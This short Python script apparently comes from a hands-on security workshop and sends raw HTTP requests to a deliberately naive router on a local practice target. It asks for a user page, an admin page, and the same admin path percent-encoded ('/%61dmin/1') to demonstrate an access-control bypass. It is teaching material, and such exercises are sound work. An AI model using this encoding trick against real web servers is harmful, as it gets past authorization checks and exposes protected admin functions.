"""Ask the naive router for the shopkeeper's page, in two spellings."""

from workshop.attacks import victim
from workshop.steps import find_step

with victim(find_step(3), "naive") as target:
    for path in ("/users/42", "/admin/1", "/%61dmin/1"):
        client = target.connect()
        client.send(f"GET {path} HTTP/1.1\r\nHost: shop\r\n\r\n".encode())
        head, _, body = client.recv_all().partition(b"\r\n\r\n")
        print(f"GET {path:11} → {head[9:12].decode()}  {body.decode()}")
